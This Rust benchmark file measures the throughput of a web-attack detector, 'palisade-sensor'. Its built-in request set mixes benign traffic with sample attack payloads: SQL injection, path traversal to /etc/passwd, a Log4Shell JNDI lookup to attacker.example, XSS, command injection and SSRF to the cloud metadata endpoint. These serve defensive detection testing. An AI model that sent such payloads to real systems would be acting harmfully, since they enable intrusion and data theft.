//! Detector throughput on one core: parse + inspect of whole requests.
//!
//! Two inputs:
//! - `builtin_mix`: a small built-in mixed attack/benign set (runs anywhere);
//! - `dev_corpus`: every request of the dev corpus `requests.jsonl` (from `$PALISADE_CORPUS`, or
//!   `../shared/corpus` relative to the workspace root; skipped with a message when absent).
//!
//! Criterion reports time per iteration and throughput in bytes/s; the requests/s figure is
//! `requests per iteration / time`. `cargo bench -p palisade-sensor --bench detector`.
//!
//! `inspect_timing` prices `palisade_sensor_inspect_duration_seconds`: `builtin_mix` inspected
//! untimed, with every request timed (two clock reads and a histogram observation), and with
//! one request in `INSPECT_SAMPLE` timed as the pipeline does.

use std::hint::black_box;
use std::path::{Path, PathBuf};

use criterion::{BatchSize, Criterion, Throughput, criterion_group, criterion_main};
use palisade_sensor::detect::Detector;
use palisade_sensor::http::{ParseLimits, Parsed, parse_request};
use palisade_sensor::metrics::{INSPECT_SAMPLE, Timings};
use palisade_tests::corpus::CorpusRequest;

const BUILTIN: &[&str] = &[
    "GET /search?q=select+union+members&page=2 HTTP/1.1\r\nHost: example.test\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36\r\nAccept: text/html,application/xhtml+xml\r\nAccept-Language: en-US,en;q=0.9\r\nCookie: session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.sig; theme=dark\r\n\r\n",
    "GET /static/app.js HTTP/1.1\r\nHost: example.test\r\nUser-Agent: Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 Version/17.0 Mobile/15E148 Safari/604.1\r\nAccept: */*\r\nReferer: https://example.test/\r\n\r\n",
    "POST /api/orders HTTP/1.1\r\nHost: example.test\r\nContent-Type: application/json\r\nContent-Length: 78\r\n\r\n{\"item\":\"O'Brien mug\",\"qty\":2,\"note\":\"Hello ${name}, gift wrap\",\"coupon\":\"\"}",
    "POST /blog/1/comments HTTP/1.1\r\nHost: example.test\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 86\r\n\r\nauthor=Ana&body=Great+post!+I+moved+the+%3Cscript%3E+tag+to+the+footer.&submit=Send",
    "GET /item?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users-- HTTP/1.1\r\nHost: example.test\r\nUser-Agent: sqlmap/1.7\r\n\r\n",
    "GET /download?file=..%2f..%2f..%2fetc%2fpasswd HTTP/1.1\r\nHost: example.test\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: example.test\r\nUser-Agent: ${jndi:ldap://attacker.example/a}\r\n\r\n",
    "GET /q?s=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E HTTP/1.1\r\nHost: example.test\r\n\r\n",
    "POST /ping HTTP/1.1\r\nHost: example.test\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 32\r\n\r\nhost=127.0.0.1%3B+cat+/etc/hosts",
    "GET /fetch?url=http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\nHost: example.test\r\n\r\n",
];

fn workspace_root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .parent()
        .map(Path::to_path_buf)
        .unwrap_or_else(|| PathBuf::from("."))
}

/// The dev corpus as raw HTTP requests, or None when it is not there.
fn load_corpus() -> Option<Vec<Vec<u8>>> {
    let dir = std::env::var_os("PALISADE_CORPUS")
        .map(PathBuf::from)
        .unwrap_or_else(|| workspace_root().join("../shared/corpus"));
    let path = dir.join("requests.jsonl");
    let text = match std::fs::read_to_string(&path) {
        Ok(t) => t,
        Err(e) => {
            eprintln!(
                "dev corpus not found at {} ({e}); skipping the dev_corpus benchmark",
                path.display()
            );
            return None;
        }
    };
    let mut out = Vec::new();
    for line in text.lines() {
        let Ok(rec) = serde_json::from_str::<CorpusRequest>(line) else {
            continue;
        };
        out.push(rec.raw());
    }
    Some(out)
}

fn run_all(detector: &Detector, limits: &ParseLimits, reqs: &[Vec<u8>]) -> usize {
    let mut hits = 0;
    for raw in reqs {
        if let Parsed::Complete { request, .. } = parse_request(raw, limits) {
            hits += detector.inspect(black_box(&request)).len();
        }
    }
    hits
}

fn bench(c: &mut Criterion) {
    let detector = Detector::builtin().expect("built-in rules compile");
    let limits = ParseLimits::default();

    let builtin: Vec<Vec<u8>> = BUILTIN.iter().map(|s| s.as_bytes().to_vec()).collect();
    let bytes: usize = builtin.iter().map(Vec::len).sum();
    let mut g = c.benchmark_group("detector");
    g.throughput(Throughput::Bytes(bytes as u64));
    g.bench_function(format!("builtin_mix/{}_requests", builtin.len()), |b| {
        b.iter(|| run_all(&detector, &limits, &builtin))
    });
    if let Some(corpus) = load_corpus() {
        let bytes: usize = corpus.iter().map(Vec::len).sum();
        g.throughput(Throughput::Bytes(bytes as u64));
        g.sample_size(10);
        // Each request of the corpus seen once: the header memory is cleared before every
        // pass (outside the timing), as on traffic that never repeats a header.
        g.bench_function(format!("dev_corpus/{}_requests", corpus.len()), |b| {
            b.iter_batched(
                || detector.forget_clean_headers(),
                |()| run_all(&detector, &limits, &corpus),
                BatchSize::PerIteration,
            )
        });
        // The same corpus replayed: its headers remembered clean from the previous passes.
        g.bench_function(
            format!("dev_corpus_headers_remembered/{}_requests", corpus.len()),
            |b| b.iter(|| run_all(&detector, &limits, &corpus)),
        );
        // The parser alone, as the baseline the detector adds to.
        g.bench_function(
            format!("dev_corpus_parse_only/{}_requests", corpus.len()),
            |b| {
                b.iter(|| {
                    corpus
                        .iter()
                        .filter(|raw| {
                            matches!(parse_request(raw, &limits), Parsed::Complete { .. })
                        })
                        .count()
                })
            },
        );
    }
    g.finish();
}

/// Parsed `builtin_mix` requests inspected once each; `time(n)` says whether the n-th is timed.
fn inspect_timed(
    detector: &Detector,
    requests: &[palisade_sensor::http::Request],
    timings: &Timings,
    n: &mut u64,
    time: impl Fn(u64) -> bool,
) -> usize {
    let mut hits = 0;
    for r in requests {
        let start = time(*n).then(std::time::Instant::now);
        *n += 1;
        hits += detector.inspect(black_box(r)).len();
        if let Some(s) = start {
            timings.inspected(s.elapsed());
        }
    }
    hits
}

fn bench_timing(c: &mut Criterion) {
    let detector = Detector::builtin().expect("built-in rules compile");
    let limits = ParseLimits::default();
    let requests: Vec<_> = BUILTIN
        .iter()
        .filter_map(|raw| match parse_request(raw.as_bytes(), &limits) {
            Parsed::Complete { request, .. } => Some(request),
            _ => None,
        })
        .collect();
    let timings = Timings::default();
    let mut g = c.benchmark_group("inspect_timing");
    let mut n = 0;
    g.bench_function(format!("untimed/{}_requests", requests.len()), |b| {
        b.iter(|| inspect_timed(&detector, &requests, &timings, &mut n, |_| false))
    });
    g.bench_function(format!("every_request/{}_requests", requests.len()), |b| {
        b.iter(|| inspect_timed(&detector, &requests, &timings, &mut n, |_| true))
    });
    g.bench_function(format!("sampled/{}_requests", requests.len()), |b| {
        b.iter(|| {
            inspect_timed(&detector, &requests, &timings, &mut n, |n| {
                n.is_multiple_of(INSPECT_SAMPLE)
            })
        })
    });
    g.finish();
}

criterion_group!(benches, bench, bench_timing);
criterion_main!(benches);
